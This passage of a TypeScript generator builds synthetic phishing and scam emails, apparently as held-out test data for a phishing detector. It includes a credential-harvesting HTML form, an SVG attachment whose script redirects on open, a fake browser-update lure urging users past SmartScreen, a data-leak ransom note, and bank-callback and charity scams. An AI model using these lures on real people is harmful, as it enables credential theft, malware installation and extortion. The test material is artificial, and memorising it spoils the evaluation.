            `<html><body style="background:url(https://${s.host('cdn')}/blur.png)"><div style="margin:80px auto;width:320px;background:#fff;padding:20px"><h3>Sign in to view the document</h3><form action="https://${s.host('remit', 'view')}/next.php" method="post"><input name="login" value="${s.victim.email}"><input name="passwd" type="password" placeholder="Password"><button>View</button></form></div></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'svg-attachment',
    template: 'purchase-order-svg-redirect',
    write: (s) => {
      const target = Buffer.from(
        `https://${s.host('po', 'view')}/${s.token(6)}?e=${s.victim.email}`,
      ).toString('base64');
      const order = `PO_${s.digits(6)}`;
      return {
        headers: s.headers(s.stranger.name, s.stranger.email, [
          authResults(s.vendor.domain, ['pass', 'pass', 'pass']),
        ]),
        subject: `${order} – please confirm`,
        text: `Hello,\n\nAttached is our purchase order. Please confirm price and lead time.\n\n${s.stranger.name}\n${s.vendor.name}`,
        parts: [
          attach(
            'image/svg+xml',
            `${order}.svg`,
            `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="300"><text x="20" y="40">Loading purchase order…</text><script type="text/javascript"><![CDATA[location.assign(atob("${target}"));]]></script></svg>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'calendar-invite',
    template: 'ics-board-pack-link',
    write: (s) => {
      const link = `https://${s.host('boardpack', 'docs')}/view/${s.token(10)}`;
      return {
        headers: s.headers(s.boss.name, s.freemail(s.boss)),
        subject: `Invitation: Board pack pre-read @ ${s.pick(['Thu', 'Fri'])} ${9 + s.below(7)}:00`,
        text: `${s.boss.name} has invited you to "Board pack pre-read". The pre-read is linked in the invitation: ${link}`,
        parts: [
          attach(
            'text/calendar',
            'invite.ics',
            invitation({
              uid: `${s.hex(16)}@${s.host('calendar')}`,
              organizer: s.freemail(s.boss),
              attendee: s.victim.email,
              summary: 'Board pack pre-read',
              description: `Please read the board pack before the meeting; sign in with your work account: ${link}`,
              location: link,
              start: `202611${10 + s.below(18)}T${10 + s.below(6)}0000Z`,
            }),
          ),
        ],
      };
    },
  },
  {
    kind: 'webmail-quota',
    template: 'quota-french-webmail',
    transfer: 'quoted-printable',
    write: (s) => ({
      headers: s.headers('Administrateur messagerie', `admin@${s.host('webmail', 'corp')}`),
      subject: `Votre boîte aux lettres ${s.victim.email} a atteint sa limite`,
      html: page(
        [
          'Votre boîte aux lettres a dépassé la limite de stockage fixée par votre administrateur.',
          'Vous ne pourrez plus envoyer ni recevoir de messages tant que vous ne la revaliderez pas.',
          'Pour augmenter votre quota, cliquez sur le lien ci-dessous et connectez-vous.',
        ],
        ['Revalider ma boîte', `https://${s.host('webmail')}/owa/?login=${s.victim.email}`],
        'Service informatique',
      ),
    }),
  },
  {
    kind: 'fake-update',
    template: 'browser-security-update',
    write: (s) => ({
      headers: s.headers(`${s.company} IT`, `it-updates@${s.host('corp', 'patch')}`),
      subject: 'Mandatory browser security update (critical vulnerability)',
      text: [
        'All staff,',
        '',
        'A critical vulnerability is being exploited in the browser installed on company laptops. Install the patch',
        `before ${s.pick(['5 pm today', 'noon tomorrow'])}: https://${s.host('browser', 'update')}/chrome/UpdateSetup_${s.digits(3)}.exe`,
        '',
        'The installer needs local administrator rights; if Windows SmartScreen warns you, click "More info" and "Run anyway".',
        '',
        'IT Operations',
      ].join('\n'),
    }),
  },
  {
    kind: 'social-network',
    template: 'professional-network-message-ja',
    transfer: 'base64',
    write: (s) => ({
      headers: s.headers('LinkedIn', `messages-noreply@${s.host('linkedin', 'mail')}`),
      subject: `${s.stranger.name}さんから新しいメッセージがあります`,
      html: page(
        [
          `${s.victim.last} 様`,
          `${s.stranger.name}さん（${s.vendor.name}）からメッセージが届いています。`,
          '「お世話になっております。ご提案資料を共有しますので、ご確認ください。」',
        ],
        ['メッセージを表示', `https://${s.host('linkedin', 'inbox')}/messaging/${s.token(12)}`],
        'このメールは LinkedIn から送信されました。',
      ),
    }),
  },
  {
    kind: 'bank-alert',
    template: 'new-payee-added-callback',
    write: (s) => {
      const bank = s.pick(['Banco Santander', 'BBVA', 'CaixaBank']);
      return {
        headers: s.headers(bank, `alertas@${s.host('banca', 'alertas')}`),
        subject: 'Nuevo beneficiario añadido a su cuenta',
        text: [
          `${bank}: se ha añadido el beneficiario ${s.stranger.name.toUpperCase()} a su cuenta y se ha programado`,
          `una transferencia de ${continental(s.money(900, 3_000))} EUR para hoy.`,
          '',
          `Si no reconoce esta operación, llame de inmediato a nuestro departamento de seguridad: ${s.phone()}`,
          '',
          'No responda a este mensaje.',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'charity-scam',
    template: 'flood-appeal-card-page',
    write: (s) => ({
      headers: s.headers('Emergency Relief Appeal', `appeal@${s.host('relief', 'fund')}`),
      subject: 'Urgent: families displaced by the floods need help tonight',
      html: page(
        [
          'Dear friend,',
          `Thousands of families in ${s.pick(['Valencia', 'southern Brazil', 'Pakistan', 'eastern Libya'])} have lost their homes. Every £25 provides a family with shelter, water and food for a week.`,
          'Your gift will be matched by a corporate donor until midnight.',
        ],
        ['Donate now', `https://${s.host('relief', 'donate')}/give?amount=25`],
        'Registered charity in formation. Donations are not tax deductible.',
      ),
    }),
  },
  {
    kind: 'extortion',
    template: 'data-leak-ransom-company',
    write: (s) => ({
      headers: s.headers(
        'Security Notice',
        `${s.token(10)}@${s.pick(['proton.example', 'onionmail.example'])}`,
      ),
      subject: `${s.company}: your data is published in 72 hours`,
      text: [
        `To the management of ${s.company},`,
        '',
        `We have copied ${80 + s.below(400)} GB from your file servers, including payroll, contracts and customer records.`,
        `A sample list of files is attached. If ${(1 + s.below(4)).toString()}.5 BTC is not received at ${s.btc()}`,
        'within 72 hours, the data goes to our leak site and to your customers.',
        '',
        'Do not contact the police. Do not hire negotiators.',
      ].join('\n'),
      parts: [
        attach(
          'text/plain',
          'file_tree_sample.txt',
          `\\\\fs01\\finance\\payroll_2026.xlsx\n\\\\fs01\\legal\\contracts\\${s.vendor.name}.pdf\n`,
        ),
      ],
    }),
  },
];

const ENTRIES: EncodedEntry[] = [...LURE_ENTRIES, ...BEC_ENTRIES];

export const UNSEEN_5_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_5_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing5(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 5_000_000);
}
